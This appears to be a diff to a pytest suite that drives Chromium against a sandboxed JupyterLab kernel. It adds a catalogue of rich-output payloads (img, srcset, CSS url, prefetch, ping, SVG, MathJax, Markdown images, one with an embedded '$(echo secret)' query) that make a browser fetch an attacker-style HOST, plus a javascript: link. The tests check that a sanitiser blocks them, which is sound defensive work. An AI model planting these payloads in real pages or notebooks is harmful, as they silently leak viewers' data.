@@ -1,13 +1,13 @@
 """JupyterLab on loopback driven by Debian's Chromium (Selenium + chromedriver): open a notebook
-with the `sandbox` kernel, run a cell, see its output; hostile rich output runs no script.
-Screenshots: build/browser-lab.png, build/browser-payloads.png."""
+with the `sandbox` kernel, run a cell, see its output; hostile rich output runs no script and
+loads no URL. Screenshots: build/browser-lab.png, build/browser-payloads.png, build/browser-network.png."""
 import time
 from pathlib import Path
 
 import nbformat
 import pytest
 
-from browserlab import chrome, jupyterlab, skip_unless_browser
+from browserlab import LabPage, RequestSink, chrome, jupyterlab, skip_unless_browser
 
 pytestmark = pytest.mark.browser
 
@@ -15,7 +15,14 @@ ROOT = Path(__file__).resolve().parents[2]
 
 
 @pytest.fixture(scope="module")
-def lab(tmp_path_factory, jupyter_kernels):
+def sink():
+    server = RequestSink()
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory, jupyter_kernels, sink):
     skip_unless_browser()
     root = tmp_path_factory.mktemp("lab")
     from sandbox_kernel.kernel.install import install
@@ -27,6 +34,12 @@ def lab(tmp_path_factory, jupyter_kernels):
                                  ("payloads", PAYLOADS, "sandbox"),
                                  ("payloads-active", PAYLOADS, "sandbox-active")):
         nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
+        nb.metadata["kernelspec"] = {"name": kernel, "display_name": "Sandbox", "language": "bash"}
+        nbformat.write(nb, root / f"{name}.ipynb")
+    for name, kernel in (("network", "sandbox"), ("network-active", "sandbox-active")):
+        cells = [nbformat.v4.new_code_cell(cell.replace("HOST", sink.url).replace("PORT", sink.url.rsplit(":", 1)[1]))
+                 for cell in NETWORK_CELLS]
+        nb = nbformat.v4.new_notebook(cells=cells)
         nb.metadata["kernelspec"] = {"name": kernel, "display_name": "Sandbox", "language": "bash"}
         nbformat.write(nb, root / f"{name}.ipynb")
     with jupyterlab(root, jupyter_kernels) as server:
@@ -45,6 +58,49 @@ display --html '<a href="javascript:window.__pwned=7" id="jslink">link</a>
 display --html '<b class="benign">bold and safe</b><table><tr><td>cell</td></tr></table>'
 display --markdown '**strong markdown**'
 """
+
+
+#: Rich output that made Chromium fetch a URL as soon as it rendered (third red team, item 5),
+#: through every engine's display path: the shell's `display` and the JS engine's display.*.
+#: Each path names its vector; each cell ends with benign math, rendered last.
+NETWORK_CELLS = [
+    r"""display --html "<img src='HOST/html-img?d=$(echo secret)'>"
+display --html "<img src='//127.0.0.1:PORT/html-protocol-relative'><img srcset='HOST/html-srcset 1x'>
+<video poster='HOST/html-poster' src='HOST/html-video'></video><input type=image src='HOST/html-input'>
+<div style=\"background-image:url('HOST/html-css')\">css</div><link rel=prefetch href='HOST/html-prefetch'>
+<link rel=stylesheet href='HOST/html-stylesheet'><table background='HOST/html-table'><tr><td>t</td></tr></table>
+<object data='HOST/html-object'></object><a ping='HOST/html-ping' href='https://example.invalid/'>l</a>"
+display --html '<p>$\style{background-image:url(HOST/html-mathjax)}{x}$</p>'
+display --markdown "![a](HOST/md-img) ![b][r]
+
+[r]: HOST/md-ref"
+display --markdown '$\bbox[background:url(HOST/md-mathjax)]{x}$'
+display --svg "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'>
+<image href='HOST/svg-image' width='20' height='20'/><rect width='5' height='5' fill='url(HOST/svg-fill)'/></svg>"
+display --json '{"html": "<img src=HOST/json-img>", "md": "![j](HOST/json-md)"}'
+display --markdown '**network payloads done** $x^2$'
+""",
+    r"""%%js
+display.html('<img src="HOST/js-html">');
+display.mime({'text/html': '<p style="background:url(HOST/js-css)">p</p>',
+              'image/svg+xml': "<svg xmlns='http://www.w3.org/2000/svg'><image href='HOST/js-svg'/></svg>"});
+display.markdown('![j](HOST/js-md)');
+display.markdown('**js payloads done** $y^2$');
+""",
+]
+
+
+def run_network_cells(driver, url: str, token: str, notebook: str) -> None:
+    """Run both network cells; return once their outputs and their benign math have rendered."""
+    page = LabPage(driver, timeout=120)
+    page.open(url, token, notebook)
+    for index, done in enumerate(("network payloads done", "js payloads done")):
+        page.run_cell(index)
+        page.wait_output(done)
+        page.until(page.idle)
+    page.until(lambda: len(page.css(".jp-OutputArea-output mjx-container")) >= 2)
+    page.until(lambda: driver.execute_script(
+        "return [...document.querySelectorAll('.jp-OutputArea-output img')].every(i => i.complete)"))
 
 
 def open_notebook(driver, url: str, token: str, name: str):
@@ -142,5 +198,42 @@ def test_run_a_cell_in_jupyterlab(lab):
     except Exception:
         driver.save_screenshot(str(screenshot))
         raise
+    finally:
+        driver.quit()
+
+
+def test_rich_output_loads_no_url(lab, sink):
+    """Every payload renders in Chromium, and the loopback server sees no request but the
+    page's own canary, fetched after everything has rendered."""
+    url, token = lab
+    driver = chrome("1280,900")
+    screenshot = ROOT / "build" / "browser-network.png"
+    screenshot.parent.mkdir(exist_ok=True)
+    try:
+        before = len(sink.paths)
+        run_network_cells(driver, url, token, "network.ipynb")
+        driver.save_screenshot(str(screenshot))
+        driver.execute_script("fetch(arguments[0], {mode: 'no-cors'})", sink.url + "/canary")
+        assert sink.wait_for(lambda paths: "/canary" in paths[before:])
+        assert sink.paths[before:] == ["/canary"], " ".join(sorted(set(sink.paths[before:])))
+        outputs = "\n".join(e.text for e in driver.find_elements("css selector", ".jp-OutputArea-output"))
+        assert "css" in outputs and "html-img" not in outputs  # the HTML renders, without the URL
+    except Exception:
+        driver.save_screenshot(str(screenshot))
+        raise
+    finally:
+        driver.quit()
+
+
+def test_network_payloads_load_with_active_output(lab, sink):
+    """With the admin's --allow-active-output the same cells do fetch (so the test above would
+    see a sanitiser that let them through)."""
+    url, token = lab
+    driver = chrome("1280,900")
+    try:
+        before = len(sink.paths)
+        run_network_cells(driver, url, token, "network-active.ipynb")
+        expected = {"/html-img?d=secret", "/md-img", "/md-ref", "/js-html", "/js-md", "/html-css"}
+        assert sink.wait_for(lambda paths: expected <= set(paths[before:])), sink.paths[before:]
     finally:
         driver.quit()
